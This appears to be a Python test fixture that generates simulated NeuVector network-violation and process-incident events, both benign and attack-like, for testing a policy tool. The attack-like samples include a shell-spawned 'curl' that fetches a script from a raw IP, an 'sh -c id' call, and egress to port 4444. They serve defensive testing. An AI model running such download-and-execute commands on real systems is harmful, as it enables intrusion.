"""Realistic NeuVector violation and incident payloads, built from the documented REST fields.

Namespace ``dev`` of the bundled example: frontend -> orders -> postgres is already allowed; new
are orders -> redis, orders -> api.stripe.com (an external FQDN), prometheus (namespace
monitoring) -> orders, and a jcmd process; a curl from a shell, a shell, and egress to a raw IP
look like an attack.
"""

from __future__ import annotations

import json
from typing import Any

T0 = 1_764_100_000  # 2025-11-25T19:46:40Z


def _common(event_id: str, offset: int, name: str, level: str) -> dict[str, Any]:
    return {"id": event_id, "name": name, "level": level, "reported_timestamp": T0 + offset,
            "reported_at": "", "cluster_name": "cluster.local", "response_rule_id": 0,
            "host_id": "node-1:ABCD", "host_name": "node-1", "enforcer_id": "enf-1", "enforcer_name": "enforcer-x"}


def violation(event_id: str, offset: int, client: tuple[str, str, str], server: tuple[str, str, str], port: int,
              proto: int = 6, apps: list[str] | None = None, sessions: int = 1, fqdn: str = "",
              server_ip: str = "10.42.0.9") -> dict[str, Any]:
    """client/server: (workload name, service, namespace); an empty service means outside the cluster."""
    data = _common(event_id, offset, "Network.Violation", "Warning")
    for side, (name, service, domain) in (("client", client), ("server", server)):
        data.update({f"{side}_id": f"{name}-id" if service else "external", f"{side}_name": name,
                     f"{side}_domain": domain, f"{side}_image": f"registry.local/{service or 'none'}:1.0",
                     f"{side}_service": service})
    data.update({"server_port": port, "ip_proto": proto, "applications": apps or [], "servers": [],
                 "sessions": sessions, "policy_action": "violate", "policy_id": 0,
                 "client_ip": "10.42.0.5", "server_ip": server_ip, "fqdn": fqdn, "xff": False, "nbe": False})
    return data


def incident(event_id: str, offset: int, workload: tuple[str, str, str], proc: str, path: str, parent: str,
             parent_path: str, cmd: str = "", name: str = "Process.Profile.Violation",
             count: int = 1) -> dict[str, Any]:
    data = _common(event_id, offset, name, "Warning")
    wl_name, service, domain = workload
    data.update({"workload_id": f"{wl_name}-id", "workload_name": wl_name, "workload_domain": domain,
                 "workload_image": f"registry.local/{service}:1.0", "workload_service": service,
                 "proc_name": proc, "proc_path": path, "proc_cmd": cmd or path, "proc_real_uid": 1000,
                 "proc_effective_uid": 1000, "proc_real_user": "app", "proc_effective_user": "app",
                 "proc_parent_name": parent, "proc_parent_path": parent_path, "file_path": "", "file_name": [],
                 "action": "violate", "group": f"nv.{service}.{domain}", "rule_id": "00000000-0000",
                 "aggregation_from": 0, "count": count, "message": f"Process profile violation: {proc}"})
    return data


ORDERS = ("orders-7d9f-abcde", "orders", "dev")
ORDERS_2 = ("orders-7d9f-fghij", "orders", "dev")
FRONTEND = ("frontend-55c-xyz", "frontend", "dev")
POSTGRES = ("postgres-0", "postgres", "dev")
REDIS = ("redis-0", "redis", "dev")
PROMETHEUS = ("prometheus-0", "prometheus", "monitoring")
EXTERNAL = ("external", "", "")


def violations() -> list[dict[str, Any]]:
    return [
        violation("v-1", 0, FRONTEND, ORDERS, 8080, apps=["HTTP"], sessions=4),  # allowed already
        violation("v-2", 10, ORDERS, POSTGRES, 5432, apps=["PostgreSQL"], sessions=2),  # allowed already
        violation("v-3", 20, ORDERS, REDIS, 6379, apps=["Redis"], sessions=3),
        violation("v-4", 80, ORDERS_2, REDIS, 6379, apps=["redis"], sessions=5),
        violation("v-5", 140, ORDERS, REDIS, 6379, apps=["Redis"], sessions=1),
        violation("v-6", 30, ORDERS, EXTERNAL, 443, apps=["SSL"], fqdn="api.stripe.com", server_ip="52.1.2.3"),
        violation("v-7", 90, ORDERS_2, EXTERNAL, 443, apps=["SSL"], fqdn="api.stripe.com", server_ip="52.1.2.4",
                  sessions=7),
        violation("v-8", 60, ORDERS, EXTERNAL, 4444, server_ip="203.0.113.50"),  # raw IP: flagged
        violation("v-9", 70, PROMETHEUS, ORDERS, 9090, apps=["HTTP"], sessions=12),
        violation("v-10", 75, PROMETHEUS, ("grafana-0", "grafana", "monitoring"), 3000, apps=["HTTP"]),  # not ours
    ]


def incidents() -> list[dict[str, Any]]:
    return [
        incident("i-1", 5, ORDERS, "java", "/usr/local/openjdk-17/bin/java", "tini", "/tini"),  # allowed already
        incident("i-2", 15, ORDERS, "jcmd", "/usr/local/openjdk-17/bin/jcmd", "java",
                 "/usr/local/openjdk-17/bin/java", count=2),
        incident("i-3", 95, ORDERS_2, "jcmd", "/usr/local/openjdk-17/bin/jcmd", "java",
                 "/usr/local/openjdk-17/bin/java"),
        incident("i-4", 100, ORDERS, "curl", "/usr/bin/curl", "sh", "/bin/sh",
                 cmd="curl -s http://203.0.113.50/x.sh"),
        incident("i-5", 99, ORDERS, "sh", "/bin/sh", "java", "/usr/local/openjdk-17/bin/java", cmd="sh -c id"),
    ]


def violation_json() -> str:
    return json.dumps({"violations": violations()})


def incident_json() -> str:
    return json.dumps({"incidents": incidents()})


def security_json() -> str:
    """GET /v1/log/security: all three lists; overlaps the other two dumps (same ids)."""
    return json.dumps({"threats": [{"id": "t-1", "name": "DNS.Flood", "severity": "High"}],
                       "incidents": incidents(), "violations": violations()})


def ndjson() -> str:
    """As syslog forwards them: a syslog prefix, then one JSON event per line."""
    lines = [f"<12>Nov 25 19:50:00 nv-controller neuvector: {json.dumps(item)}" for item in violations() + incidents()]
    return "\n".join(lines) + "\n"


def _with_header(header: str, event: dict[str, Any]) -> str:
    """NeuVector's own JSON framing: it splices a header key in front of the event's fields."""
    return header + json.dumps(event)[1:]


def syslog_json() -> str:
    """As NeuVector's syslog sends them with JSON format on: an RFC 5424 header, then
    ``{"notification": "<category>", ...the event...}``; audit-like events and threats come along."""
    container_start = _common("e-1", 1, "Container.Start", "Info")
    container_start.update({"workload_id": "orders-id", "workload_name": "orders-7d9f-abcde"})
    threat = _common("t-1", 2, "TCP.SYN.Flood", "Critical")
    threat.update({"client_workload_id": "external", "server_workload_id": "orders-id", "client_ip": "198.51.100.7",
                   "server_ip": "10.42.0.5", "client_port": 41000, "server_port": 8080, "ip_proto": 6})
    events = ([("violation", v) for v in violations()] + [("incident", i) for i in incidents()]
              + [("event", container_start), ("threat", threat)])
    prefix = "<132>1 2025-11-25T19:50:00Z nv-controller-7f9c neuvector - - - "
    return "".join(prefix + _with_header('{"notification": "' + header + '", ', event) + "\n"
                   for header, event in events)


def webhook_json() -> str:
    """As a JSON webhook posts them, one body per line: ``{"cluster": ..., "comment": ..., ...the event...}``."""
    return "".join(_with_header('{"cluster":"cluster.local","comment":"monitor round",', event) + "\n"
                   for event in violations() + incidents())
